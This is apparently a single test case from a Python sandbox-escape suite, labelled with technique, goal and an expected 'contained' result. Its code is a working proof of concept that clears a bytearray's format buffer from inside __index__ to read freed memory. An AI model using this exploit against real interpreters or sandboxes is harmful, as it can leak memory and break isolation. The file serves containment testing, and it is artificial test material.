# escape: 187
# policy-wall: optional; it changes its own process alone
# technique: bytearray % args whose __index__ clears the format
# family: memory
# goal: memory
# expect: contained
fmt = bytearray(b'%d' + b'A' * 4000)
keep = []
class Arg:
    def __index__(self):
        fmt.clear()
        keep.extend(bytearray(b'S' * 3990) for _ in range(4))
        return 1
    __int__ = __index__
try:
    got = fmt % Arg()
except (TypeError, ValueError) as error:
    got = b''
    print(error)
if b'SSSS' in got:
    print('ESCAPED: freed memory in the answer', got[:40])
